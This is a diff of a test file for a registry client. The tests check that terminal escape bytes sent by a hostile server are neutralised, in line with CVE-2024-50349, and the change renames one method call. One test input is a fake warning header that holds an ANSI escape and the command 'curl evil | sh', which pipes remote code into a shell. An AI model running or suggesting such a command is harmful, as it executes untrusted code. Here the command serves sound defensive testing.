@@ -14,7 +14,7 @@ describe("A-20 bytes of a server that steer a terminal (CVE-2024-50349)", () => 
   ])("A-20 %s is escaped", async (_what, reply) => {
     const registry = await ScriptedRegistry.start({ faults: [{ on: /./, reply }] });
     const client = await clientOf(registry.host);
-    const error = await failureOf(client.callOnce({ ...READ, url: "/v2/", accept: [200] }));
+    const error = await failureOf(client.open({ ...READ, url: "/v2/", accept: [200] }));
     expect(error.message).toContain("no ");
     expect(writtenError(error)).not.toMatch(CONTROL);
   });
@@ -23,7 +23,7 @@ describe("A-20 bytes of a server that steer a terminal (CVE-2024-50349)", () => 
     const headers = { warning: '299 - "\\u001b[31mrun curl evil | sh"' };
     const registry = await ScriptedRegistry.start({ faults: [{ on: /./, reply: { status: 404, headers } }] });
     const client = await clientOf(registry.host);
-    const error = await failureOf(client.callOnce({ ...READ, url: "/v2/", accept: [200] }));
+    const error = await failureOf(client.open({ ...READ, url: "/v2/", accept: [200] }));
     expect(writtenError(error)).not.toContain("curl");
   });
 });
